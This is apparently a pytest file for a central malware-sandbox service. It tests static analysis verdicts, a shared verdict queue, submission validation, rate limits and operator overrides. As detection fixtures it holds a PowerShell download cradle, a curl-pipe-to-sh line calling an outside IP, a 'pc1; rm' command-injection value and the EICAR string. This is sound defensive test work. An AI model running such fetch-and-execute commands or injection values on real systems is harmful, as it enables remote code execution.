"""The sandbox at the center: the static analyzer, the queue in the database and the device endpoints
(verdicts by hash shared by every box, submissions bounded in size, rate and quota)."""
from __future__ import annotations

import hashlib
import io
import os
import zipfile
from pathlib import Path

import pytest

from lab.sandbox_samples import MARKER, elf, pe
from opscenter.sandbox import queue
from opscenter.sandbox.analyzer import StaticAnalyzer
from opscenter.sandbox.worker import run_once
from tests.opscenter.helpers import activate, bearer, issue, make_client

FILES = "/api/v1/sandbox/files"
VERDICTS = "/api/v1/sandbox/verdicts"
OCTET = {"Content-Type": "application/octet-stream"}


@pytest.fixture(scope="module")
def analyzer() -> StaticAnalyzer:
    return StaticAnalyzer()


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# -- the static analyzer ----------------------------------------------------------------------------
def test_marked_test_executables_are_malicious_with_the_rule_named(analyzer: StaticAnalyzer):
    for sample in (pe(), elf()):
        a = analyzer.analyze(sample, {"filename": "x"})
        assert a.verdict == "malicious" and a.score == 100
        assert any("VCR_Sandbox_Test_Marker" in r for r in a.reasons)
    clean = analyzer.analyze(pe(marker=False), {})
    assert (clean.verdict, clean.score, clean.reasons) == ("clean", 0, ())


def test_pe_imports_and_packing_add_up(analyzer: StaticAnalyzer):
    inj = pe(marker=False, imports={"kernel32.dll": ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread",
                                                     "IsDebuggerPresent"]})
    a = analyzer.analyze(inj, {})
    assert a.verdict == "suspicious" and a.score == 45
    assert any("process injection" in r for r in a.reasons) and any("anti-debugging" in r for r in a.reasons)
    packed = pe(marker=False, imports={"kernel32.dll": ["LoadLibraryA", "GetProcAddress"]}, extra=os.urandom(8192))
    b = analyzer.analyze(packed, {})
    assert any("packed or encrypted sections (.rdata" in r for r in b.reasons)
    assert any("imports only LoadLibrary/GetProcAddress" in r for r in b.reasons)


def test_archives_pdfs_and_scripts(analyzer: StaticAnalyzer):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("readme.txt", "hello")
        z.writestr("tools/setup.bin", elf())
    a = analyzer.analyze(buf.getvalue(), {})
    assert a.verdict == "malicious" and any(r.startswith("tools/setup.bin: yara") for r in a.reasons)
    pdf = analyzer.analyze(b"%PDF-1.4\n1 0 obj << /OpenAction 2 0 R >> 2 0 obj << /S /JavaScript /JS (x) >>", {})
    assert pdf.verdict == "suspicious" and any("PDF with JavaScript" in r for r in pdf.reasons)
    ps = analyzer.analyze(b"powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x/a')", {})
    assert any("PowerShell_Download_Cradle" in r for r in ps.reasons) and ps.score >= 30
    sh = analyzer.analyze(b"#!/bin/sh\ncurl -s http://198.51.100.9/x | sh\n", {})
    assert any("Shell_Download_Pipe" in r for r in sh.reasons)


def test_hostile_input_never_raises(analyzer: StaticAnalyzer):
    good = pe(imports={"kernel32.dll": ["WinExec"]})
    samples = [b"", b"MZ", b"MZ" + b"\xff" * 200, good[:300], good[:0x300], b"PK\x03\x04" + os.urandom(200),
               b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(600), b"%PDF-" + os.urandom(300)]
    rnd = __import__("random").Random(13)
    for _ in range(60):  # corrupt bytes of a valid PE in random places
        b = bytearray(good)
        for _ in range(rnd.randint(1, 20)):
            b[rnd.randrange(len(b))] = rnd.randrange(256)
        samples.append(bytes(b))
    for s in samples:
        a = analyzer.analyze(s, {"filename": "x.exe"})
        assert 0 <= a.score <= 100 and a.verdict in ("clean", "suspicious", "malicious")


def test_clamav_of_the_center_is_a_reason(clamd, tmp_path: Path):
    eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    a = StaticAnalyzer(clamd_socket=clamd.socket).analyze(eicar, {})
    assert a.verdict == "malicious" and any(r.startswith("ClamAV: Eicar") for r in a.reasons)
    down = StaticAnalyzer(clamd_socket=str(tmp_path / "none.sock")).analyze(pe(), {})
    assert down.verdict == "malicious" and any("ClamAV not available" in r for r in down.reasons)


# -- the device endpoints and the queue ----------------------------------------------------------------
def _boxes(c, n: int = 2) -> list[dict]:
    return [activate(c, issue(c, f"C-{i}"), f"SN-{i}").json() for i in range(n)]


def test_submit_judge_and_every_box_gets_the_verdict(db_url: str, analyzer: StaticAnalyzer):
    sample = pe(salt=b"shared")
    h = sha(sample)
    with make_client(db_url) as c:
        a, b = _boxes(c)
        r = c.post(VERDICTS, json={"sha256": [h]}, headers=bearer(a["token"]))
        assert r.status_code == 200 and r.json()["verdicts"][h]["verdict"] == "unknown"
        r = c.post(FILES, params={"sha256": h, "name": "setup.exe", "lan_host": "192.168.10.21",
                                  "magic": "PE32 executable"}, content=sample, headers={**bearer(a["token"]), **OCTET})
        assert r.status_code == 202, r.text
        assert r.json()["queued"] is True and r.json()["verdict"] == "pending" and r.json()["ttl"] == 0
        # another box sending the same file: no second analysis
        r = c.post(FILES, params={"sha256": h}, content=sample, headers={**bearer(b["token"]), **OCTET})
        assert r.status_code == 202 and r.json()["queued"] is False
        db = c.app.state.db
        done = run_once(db, analyzer)
        assert done is not None and done["verdict"] == "malicious"
        assert run_once(db, analyzer) is None  # analysed once
        for box in (a, b):  # shared by every box
            v = c.post(VERDICTS, json={"sha256": [h, "0" * 64]}, headers=bearer(box["token"])).json()["verdicts"]
            assert v[h]["verdict"] == "malicious" and v[h]["score"] == 100 and v[h]["ttl"] > 0
            assert any("VCR_Sandbox_Test_Marker" in x for x in v[h]["reasons"])
            assert v["0" * 64]["verdict"] == "unknown"
        [row] = queue.listing(db)
        assert row["submissions"] == 2 and row["filename"] == "setup.exe" and row["latency_ms"] >= 0
        detail = queue.detail(db, h)
        assert detail is not None and detail["submissions_list"][-1]["lan_host"] == "192.168.10.21"
        from opscenter.db import sandbox_files
        from sqlalchemy import select

        with db.read() as conn:  # the bytes are dropped once analysed
            assert conn.execute(select(sandbox_files.c.data).where(sandbox_files.c.sha256 == h)).scalar() is None


def test_submissions_are_validated(tmp_path: Path):
    sample = pe(salt=b"v")
    h = sha(sample)
    with make_client(f"sqlite:///{tmp_path / 'c.db'}", sandbox_max_bytes=4096) as c:
        (a,) = _boxes(c, 1)
        hdr = {**bearer(a["token"]), **OCTET}
        assert c.post(FILES, params={"sha256": h}, content=sample, headers=OCTET).status_code == 401
        assert c.post(FILES, params={"sha256": h}, content=sample, headers=bearer("nope") | OCTET).status_code == 401
        assert c.post(FILES, params={"sha256": "0" * 64}, content=sample, headers=hdr).json()["message"] == \
            "the body does not hash to sha256"
        assert c.post(FILES, params={"sha256": h.upper()}, content=sample, headers=hdr).status_code == 400
        assert c.post(FILES, params={"sha256": h[:-1]}, content=sample, headers=hdr).status_code in (400, 422)
        assert c.post(FILES, params={"sha256": h, "lan_host": "pc1; rm"}, content=sample, headers=hdr).status_code == 400
        assert c.post(FILES, params={"sha256": h, "name": "a\x00b"}, content=sample, headers=hdr).status_code == 400
        assert c.post(FILES, params={"sha256": h}, content=sample, headers=bearer(a["token"]) | {
            "Content-Type": "application/json"}).status_code == 415
        big = pe(extra=b"x" * 5000)
        assert c.post(FILES, params={"sha256": sha(big)}, content=big, headers=hdr).status_code == 413
        assert c.post(FILES, params={"sha256": sha(b"")}, content=b"", headers=hdr).status_code == 400
        assert c.post(VERDICTS, json={"sha256": ["x" * 64]}, headers=bearer(a["token"])).status_code == 400
        assert c.post(VERDICTS, json={"sha256": ["a" * 64] * 257}, headers=bearer(a["token"])).status_code in (400, 422)
        assert c.post(VERDICTS, json={"sha256": []}, headers=bearer(a["token"])).status_code in (400, 422)
        assert queue.listing(c.app.state.db) == []  # nothing was queued by the refused ones
        assert c.post(FILES, params={"sha256": h}, content=sample, headers=hdr).status_code == 202


def test_rate_and_daily_quota_per_device(tmp_path: Path):
    with make_client(f"sqlite:///{tmp_path / 'c.db'}", sandbox_submit_rate=0.001, sandbox_submit_burst=3,
                     sandbox_quota_files=0) as c:
        a, b = _boxes(c)
        codes = []
        for i in range(4):
            s = pe(salt=b"r%d" % i)
            codes.append(c.post(FILES, params={"sha256": sha(s)}, content=s,
                                headers={**bearer(a["token"]), **OCTET}).status_code)
        assert codes == [202, 202, 202, 429]
        s = pe(salt=b"other")
        assert c.post(FILES, params={"sha256": sha(s)}, content=s, headers={**bearer(b["token"]), **OCTET}).status_code == 202
    with make_client(f"sqlite:///{tmp_path / 'd.db'}", sandbox_quota_files=2) as c:
        (a,) = _boxes(c, 1)
        codes = []
        for i in range(3):
            s = pe(salt=b"q%d" % i)
            r = c.post(FILES, params={"sha256": sha(s)}, content=s, headers={**bearer(a["token"]), **OCTET})
            codes.append((r.status_code, r.json().get("error")))
        assert codes[:2] == [(202, None), (202, None)] and codes[2] == (429, "quota_exceeded")


def test_failing_analyzer_and_dead_worker(tmp_path: Path):
    class Broken:
        name = "broken"

        def analyze(self, data, meta):
            raise RuntimeError("analyzer bug")

    with make_client(f"sqlite:///{tmp_path / 'c.db'}") as c:
        (a,) = _boxes(c, 1)
        s = pe(salt=b"f")
        c.post(FILES, params={"sha256": sha(s)}, content=s, headers={**bearer(a["token"]), **OCTET})
        db = c.app.state.db
        for _ in range(3):  # queued again after each failure, failed after the third
            assert run_once(db, Broken(), max_attempts=3)["verdict"] is None
        assert run_once(db, Broken(), max_attempts=3) is None
        [row] = queue.listing(db)
        assert row["status"] == "failed" and "analyzer bug" in row["error"]
        assert queue.verdicts(db, [sha(s)])[sha(s)]["verdict"] == "unknown"
        # submitted again: analysed afresh
        c.post(FILES, params={"sha256": sha(s)}, content=s, headers={**bearer(a["token"]), **OCTET})
        assert run_once(db, StaticAnalyzer())["verdict"] == "malicious"
        # a claim whose worker died is taken again after stale_after
        t = pe(salt=b"stale")
        c.post(FILES, params={"sha256": sha(t)}, content=t, headers={**bearer(a["token"]), **OCTET})
        job = queue.claim(db)
        assert job is not None and queue.claim(db) is None
        assert run_once(db, StaticAnalyzer(), stale_after=0.0)["verdict"] == "malicious"


def test_override_wins_and_is_recorded(db_url: str):
    with make_client(db_url) as c:
        (a,) = _boxes(c, 1)
        s = pe(salt=b"o")
        h = sha(s)
        c.post(FILES, params={"sha256": h}, content=s, headers={**bearer(a["token"]), **OCTET})
        db = c.app.state.db
        run_once(db, StaticAnalyzer())
        queue.override(db, h, "clean", "vendor test file", "alice")
        v = c.post(VERDICTS, json={"sha256": [h]}, headers=bearer(a["token"])).json()["verdicts"][h]
        assert v["verdict"] == "clean" and v["reasons"][0] == "operator override: clean (vendor test file)"
        queue.override(db, h, None, "back to the analyzer", "bob")
        assert queue.verdicts(db, [h])[h]["verdict"] == "malicious"
        hist = queue.detail(db, h)["overrides"]
        assert [(x["before"], x["after"], x["by"]) for x in hist] == [("clean", None, "bob"), ("malicious", "clean", "alice")]
        with pytest.raises(ValueError):
            queue.override(db, h, "harmless", "", "alice")


def test_checkin_reply_carries_recent_verdict_changes(db_url: str):
    from tests.opscenter.helpers import checkin_body

    with make_client(db_url) as c:
        a, b = _boxes(c)
        s = pe(salt=b"ck")
        h = sha(s)
        c.post(FILES, params={"sha256": h}, content=s, headers={**bearer(a["token"]), **OCTET})
        r = c.post("/api/v1/checkin", json=checkin_body(), headers=bearer(b["token"])).json()
        assert h not in r["sandbox"]["verdicts"]  # pending: nothing to tell yet
        run_once(c.app.state.db, StaticAnalyzer())
        r = c.post("/api/v1/checkin", json=checkin_body(), headers=bearer(b["token"])).json()
        assert r["sandbox"]["verdicts"][h] == "malicious" and r["sandbox"]["window_s"] >= 600
        queue.override(c.app.state.db, h, "clean", "false positive", "alice")
        r = c.post("/api/v1/checkin", json=checkin_body(), headers=bearer(a["token"])).json()
        assert r["sandbox"]["verdicts"][h] == "clean"


def test_worker_thread_drains_the_queue_in_the_running_center(tmp_path: Path):
    from tests.waiting import wait as wait_until

    with make_client(f"sqlite:///{tmp_path / 'c.db'}", sandbox_workers=2) as c:
        (a,) = _boxes(c, 1)
        db = c.app.state.db
        workers = c.app.state.sandbox_workers  # started with the center
        assert len(workers) == 2 and all(w.is_alive() for w in workers)
        if True:
            hashes = []
            for i in range(3):
                s = pe(salt=b"w%d" % i, marker=i != 1)
                hashes.append(sha(s))
                c.post(FILES, params={"sha256": sha(s)}, content=s, headers={**bearer(a["token"]), **OCTET})
            wait_until(lambda: all(v["verdict"] in ("malicious", "clean") for v in queue.verdicts(db, hashes).values()),
                       timeout=60)
            v = queue.verdicts(db, hashes)
            assert [v[h]["verdict"] for h in hashes] == ["malicious", "clean", "malicious"]
            assert sum(w.analysed for w in workers) == 3
    assert not any(w.is_alive() for w in workers)  # stopped with the center
    assert MARKER not in pe(marker=False)
